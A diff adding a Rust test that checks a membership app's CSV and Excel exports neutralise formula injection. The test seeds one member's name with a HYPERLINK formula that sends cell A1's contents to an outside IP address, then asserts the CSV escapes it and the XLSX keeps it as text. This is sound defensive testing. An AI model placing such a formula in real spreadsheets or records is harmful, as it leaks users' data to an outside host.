@@ -171,6 +171,33 @@ async fn exports_hold_what_the_list_shows_with_its_filter_and_scope() {
     db.finish().await;
 }
 
+/// A name a spreadsheet would run as a formula (OWASP's CSV injection) goes out in CSV behind
+/// an apostrophe, which spreadsheets show as text, and in Excel as a string cell.
+#[tokio::test]
+async fn text_that_looks_like_a_formula_goes_out_as_text() {
+    const FORMULA: &str = "=HYPERLINK(\"http://203.0.113.7/?\"&A1,\"点此\")";
+    let db = TestDb::new().await;
+    execute(
+        &db,
+        &format!(
+            "UPDATE reg.party_members SET name = '{}' WHERE id = (SELECT min(id) FROM reg.party_members)",
+            FORMULA.replace('\'', "''")
+        ),
+    )
+    .await;
+    let router = router(&db);
+    let staff = login(&router, "staff").await;
+    let (status, _, body) = send_for_bytes(&router, get(&format!("{MEMBERS}/export.csv"), Some(&staff))).await;
+    assert_eq!(status, StatusCode::OK);
+    let names: Vec<String> = csv_rows(&body).into_iter().skip(1).map(|row| row[1].clone()).collect();
+    assert!(names.contains(&format!("'{FORMULA}")), "{:?}", &names[..3]);
+    assert!(!names.iter().any(|name| name == FORMULA));
+    let (status, _, body) = send_for_bytes(&router, get(&format!("{MEMBERS}/export.xlsx"), Some(&staff))).await;
+    assert_eq!(status, StatusCode::OK);
+    assert!(xlsx_rows(&body).iter().any(|row| row[1] == FORMULA), "a string cell holds the text as it is");
+    db.finish().await;
+}
+
 #[tokio::test]
 async fn without_the_permission_there_is_no_export_template_or_import() {
     let db = TestDb::new().await;
